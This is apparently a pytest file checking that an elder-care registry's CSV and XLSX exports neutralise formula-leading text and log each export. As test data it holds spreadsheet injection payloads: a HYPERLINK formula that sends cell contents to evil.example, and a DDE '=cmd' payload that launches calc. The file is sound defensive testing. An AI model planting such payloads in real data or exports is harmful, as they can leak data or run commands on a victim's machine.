"""Formula-leading text is neutralised in every CSV and XLSX export, and exports are audited."""

from __future__ import annotations

import csv
import io

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select

from carehub.core.audit import AuditLog
from carehub.core.enums import Role
from carehub.core.spreadsheets import FORMULA_LEAD, neutralise, unneutralise
from carehub.registry.imports.reader import read
from tests.integration.subsidy_support import NOW, october

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.mark.parametrize("lead", FORMULA_LEAD)
def test_each_formula_lead_is_neutralised_and_restored(lead: str) -> None:
    text = f"{lead}1+1"
    assert neutralise(text) == f"'{text}"
    assert unneutralise(neutralise(text)) == text


def test_plain_text_and_numbers_pass_unchanged() -> None:
    assert neutralise("张秀英") == "张秀英"
    assert neutralise(-1500) == -1500
    assert unneutralise("'quoted") == "'quoted"


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(data: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(data), read_only=True)
    cells = [c for row in book.worksheets[0].iter_rows(values_only=True) for c in row]
    book.close()
    return cells


@pytest.fixture
def app_config() -> dict[str, object]:
    return {"CLOCK": lambda: NOW}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_registry_export_neutralises_and_reimports_the_same_text(
    client: FlaskClient, login_as, make, db, fmt: str
) -> None:
    make.elder(name=EVIL, notes="@SUM(A1:A9)", phone="+8613900000000")
    db.session.commit()
    login_as(Role.ADMIN)
    response = client.get(f"/admin/data/export/elders.{fmt}")
    assert response.status_code == 200
    cells = _csv_cells(response.data) if fmt == "csv" else _xlsx_cells(response.data)
    assert f"'{EVIL}" in cells and "'@SUM(A1:A9)" in cells and "'+8613900000000" in cells
    assert not any(isinstance(c, str) and c.startswith(FORMULA_LEAD) for c in cells)
    sheet = read(f"elders.{fmt}", response.data)
    assert any(EVIL in row.cells.values() for row in sheet.rows)
    entry = db.session.scalar(select(AuditLog).where(AuditLog.action == "export"))
    assert entry is not None and entry.note == f"elders.{fmt}"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_subsidy_export_neutralises(client: FlaskClient, login_as, make, db, fmt: str) -> None:
    month = october(make, db)
    month.elders[0].name = "=1+1"
    month.stations[0].name = "-2+3"
    db.session.commit()
    login_as(Role.AUDITOR)
    for scope in ("elders", "stations"):
        response = client.get(f"/subsidy/2026-10/export/{scope}.{fmt}")
        assert response.status_code == 200
        cells = _csv_cells(response.data) if fmt == "csv" else _xlsx_cells(response.data)
        assert not any(isinstance(c, str) and c.startswith(FORMULA_LEAD) for c in cells), scope
    assert db.session.scalar(select(AuditLog).where(AuditLog.action == "export")) is not None


def test_a_command_line_export_is_audited(app, make, db, tmp_path) -> None:
    from carehub.cli import main

    make.station(name="=cmd|' /C calc'!A0")
    db.session.commit()
    out = tmp_path / "stations.csv"
    assert app.test_cli_runner().invoke(main, ["export", "stations", str(out)]).exit_code == 0
    assert "'=cmd" in out.read_bytes().decode("utf-8-sig")
    entry = db.session.scalar(select(AuditLog).where(AuditLog.action == "export"))
    assert entry is not None and entry.actor == "cli:export" and entry.note == "stations.csv"
